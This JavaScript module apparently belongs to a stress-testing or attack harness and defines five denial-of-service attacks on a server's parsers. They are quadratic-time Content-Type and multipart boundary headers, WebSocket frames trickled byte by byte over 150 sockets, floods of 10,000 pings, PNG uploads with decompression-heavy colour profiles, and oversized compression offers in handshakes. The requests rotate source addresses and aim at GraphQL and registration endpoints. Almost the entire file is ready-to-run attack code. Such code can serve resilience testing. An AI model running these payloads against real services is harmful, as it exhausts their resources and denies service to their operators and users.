// The attacks of a siege on parsers: of headers, forms, WebSocket frames, and colour profiles of pictures.
import { setTimeout as sleep } from 'node:timers/promises';
import { deflateSync } from 'node:zlib';
import { rawFrom } from './client.mjs';
import { pngWith } from './costly-pictures.mjs';
import { ATTACKER, HANDSHAKE, inLoops, reconnecting, servicesInLoops, THREE_ADDRESSES } from './loops.mjs';

/** A masked WebSocket frame without content. */
const EMPTY_PING = Buffer.from([0x89, 0x80, 0, 0, 0, 0]);

/**
 * A WebSocket whose client writes bytes of its own; resolves when the handshake has succeeded or the connection ended.
 * @param {string} url
 * @param {string} address
 */
async function rawSocket(url, address) {
  const { socket } = rawFrom(url, address);
  socket.setNoDelay(true);
  socket.write(`GET /graphql HTTP/1.1\r\nHost: x\r\n${HANDSHAKE}\r\n`);
  await new Promise((resolve) => socket.once('data', resolve).once('close', resolve));
  return socket;
}

/** @type {Record<string, import('./attacks.mjs').Attack>} */
export const ATTACKS_ON_PARSERS = {
  /** Headers that a parser reads in quadratic time: blanks in a `Content-Type`, and a boundary that almost repeats. */
  'content-types': {
    run: ({ url }, until) => {
      const types = [
        `application/json${' '.repeat(15_000)}x`,
        `multipart/form-data; boundary=${'-'.repeat(6_000)}`,
        `multipart/form-data; boundary=${'a'.repeat(69)}b`,
      ];
      const body = Buffer.from(`--${'-'.repeat(180_000)}`);
      return inLoops(
        90,
        until,
        url,
        (client, n) =>
          client.send({
            method: 'POST',
            path: n % 2 === 0 ? '/graphql' : '/api/auth/register-provider',
            headers: { 'apollo-require-preflight': 'true' },
            type: /** @type {string} */ (types[n % types.length]),
            body,
          }),
        THREE_ADDRESSES,
      );
    },
  },

  /** Frames of 60 kB that arrive byte by byte, over fifty WebSockets of each of three addresses. */
  'frames-in-pieces': {
    async run({ url }, until) {
      const frame = Buffer.alloc(60_000, 'a');
      Buffer.from([0x81, 0x80 | 126, 60_000 >> 8, 60_000 & 255, 0, 0, 0, 0]).copy(frame);
      let ended = 0;
      const loop = async (/** @type {unknown} */ _, /** @type {number} */ n) => {
        while (Date.now() < until) {
          const socket = await rawSocket(url, THREE_ADDRESSES[n % 3] ?? ATTACKER);
          for (let at = 0; at < frame.length && !socket.destroyed && Date.now() < until; at += 1) {
            socket.write(frame.subarray(at, at + 1));
            await sleep(0);
          }
          if (socket.destroyed) ended += 1;
          socket.destroy();
          await sleep(20);
        }
      };
      await Promise.all(Array.from({ length: 150 }, loop));
      return `${ended} connections closed`;
    },
  },

  /** Ten thousand pings at once over each WebSocket. */
  pings: {
    async run({ url }, until) {
      const pings = Buffer.concat(Array.from({ length: 10_000 }, () => EMPTY_PING));
      let ended = 0;
      const loop = async (/** @type {unknown} */ _, /** @type {number} */ n) => {
        while (Date.now() < until) {
          const socket = await rawSocket(url, THREE_ADDRESSES[n % 3] ?? ATTACKER);
          const closed = new Promise((resolve) => socket.once('close', resolve));
          if (!socket.destroyed) socket.write(pings);
          await Promise.race([closed, sleep(Math.max(1, Math.min(2_000, until - Date.now())))]);
          if (socket.destroyed) ended += 1;
          socket.destroy();
        }
      };
      await Promise.all(Array.from({ length: 300 }, loop));
      return `${ended} connections closed`;
    },
  },

  /** Pictures whose colour profiles are costly to decompress: one of ten megabytes, or thousands of small ones. */
  'colour-profiles': {
    run({ url, tokens }, until) {
      // An empty block of the deflate format, which a decompressor reads without a result.
      const blocks = Buffer.concat([
        Buffer.from([0x78, 0x9c]),
        Buffer.alloc(9_000_000, Buffer.from([0, 0, 0, 0xff, 0xff])),
      ]);
      const small = deflateSync(Buffer.alloc(100_000));
      const profile = (/** @type {Buffer} */ compressed) => Buffer.concat([Buffer.from('profile\0\0'), compressed]);
      const pictures = [
        pngWith('iCCP', [profile(blocks)]),
        pngWith(
          'iCCP',
          Array.from({ length: 4_000 }, () => profile(small)),
        ),
      ];
      const files = Array.from({ length: 4 }, (_, n) => ({
        name: `${n}.png`,
        bytes: /** @type {Buffer} */ (pictures[n % 2]),
        type: 'image/png',
      }));
      return servicesInLoops(12, until, { url, tokens, files });
    },
  },

  /** Handshakes with compression offers of eight kilobytes. */
  'compression-offers': {
    run: ({ url }, until) => {
      const offers = Array.from({ length: 300 }, () => 'permessage-deflate; a=1').join(', ');
      return reconnecting(
        450,
        until,
        url,
        `GET /graphql HTTP/1.1\r\nHost: x\r\n${HANDSHAKE}Sec-WebSocket-Extensions: ${offers}\r\n\r\n`,
      );
    },
  },
};
